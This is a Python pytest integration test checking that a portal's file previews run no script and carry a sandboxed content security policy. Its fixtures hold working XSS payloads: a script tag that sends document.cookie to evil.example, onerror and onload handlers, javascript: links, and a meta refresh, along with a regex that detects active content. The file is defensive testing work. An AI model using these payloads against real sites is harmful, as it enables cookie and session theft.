"""What somebody hands in to be looked at runs nothing in the browser of whoever looks at it."""

from __future__ import annotations

import json
import re

import pytest

from tests.integration.portal.portal_world import World, request_form

SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}<a href="javascript:alert(1)">x</a></svg>'
PAGE = (
    f"<!doctype html><html><head>{SCRIPT}<meta http-equiv=refresh content='0;url=//evil.example'></head><body>{IMAGE}"
)
NOTEBOOK = json.dumps(
    {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [
            {"id": "a", "cell_type": "markdown", "metadata": {}, "source": [SCRIPT, IMAGE, "[x](javascript:alert(1))"]},
            {
                "id": "b",
                "cell_type": "code",
                "metadata": {},
                "execution_count": 1,
                "source": [f"print('{SCRIPT}')"],
                "outputs": [
                    {"output_type": "display_data", "metadata": {}, "data": {"text/html": [SCRIPT, IMAGE, SVG]}},
                    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": [SVG]}},
                    {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": ["alert(1)"]}},
                    {"output_type": "stream", "name": "stdout", "text": [SCRIPT]},
                ],
            },
        ],
    }
)
HOSTILE = {
    "work.ipynb": NOTEBOOK,
    "chart.svg": SVG,
    "page.html": PAGE,
    "notes.md": f"# {SCRIPT}\n\n{IMAGE}\n",
    "notes.txt": SCRIPT + IMAGE,
    "data.json": json.dumps({"a": SCRIPT, IMAGE: [1, 2]}),
    "table.tsv": f"group\tn\n{SCRIPT}\t25\n{IMAGE}\t30\n",
}
ACTIVE = re.compile(
    r"<(?:script|iframe|object|embed|meta http-equiv|svg|base|form)\b"
    r"|<[^>]*\son[a-z]+\s*="
    r"|<[^>]*\s(?:href|src)\s*=\s*[\"']?\s*(?:javascript|data:text)",
    re.IGNORECASE,
)


def active(html: str) -> str | None:
    """Return the first thing in a page that a browser would run; text that was escaped is none."""
    found = ACTIVE.search(html)
    return found[0] if found else None


def test_the_measure_finds_what_would_run() -> None:
    for text in (SCRIPT, IMAGE, SVG, PAGE, '<a href="javascript:alert(1)">'):
        assert active(text)
    assert active("&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;") is None


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_no_preview_holds_anything_that_runs(world: World, name: str) -> None:
    (world.outbox() / name).write_text(HOSTILE[name], encoding="utf-8")
    minji = world.signed_in("minji")
    ref = minji.fill("/requests/new", **request_form(files=[name])).headers["location"].rsplit("/", 1)[1]
    sha256 = world.zone.desk.scan(ref).files[0].sha256
    page = minji.page(f"/requests/{ref}?file={sha256}")
    found = re.search(r'<iframe[^>]* src="http://preview\.ansim\.localhost:8600(/p/[^"]+)"', page)
    assert found, "the author may look at what they handed in"
    answer = world.browser(host="preview").get(found[1].replace("&amp;", "&"))
    assert answer.status_code == 200
    assert active(answer.text) is None
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src" not in policy
    assert "sandbox" in policy
